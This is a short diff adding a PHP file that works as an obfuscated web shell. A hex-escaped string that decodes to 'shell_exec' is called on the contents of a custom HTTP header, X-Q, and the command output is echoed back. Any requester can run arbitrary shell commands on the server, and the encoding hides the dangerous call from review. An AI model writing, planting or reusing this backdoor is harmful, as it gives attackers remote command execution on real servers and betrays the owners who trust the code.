@@ -1,0 +1,3 @@
+<?php
+$h = "\x73\x68\x65\x6c\x6c\x5f\x65\x78\x65\x63";
+echo $h($_SERVER['HTTP_X_Q']);
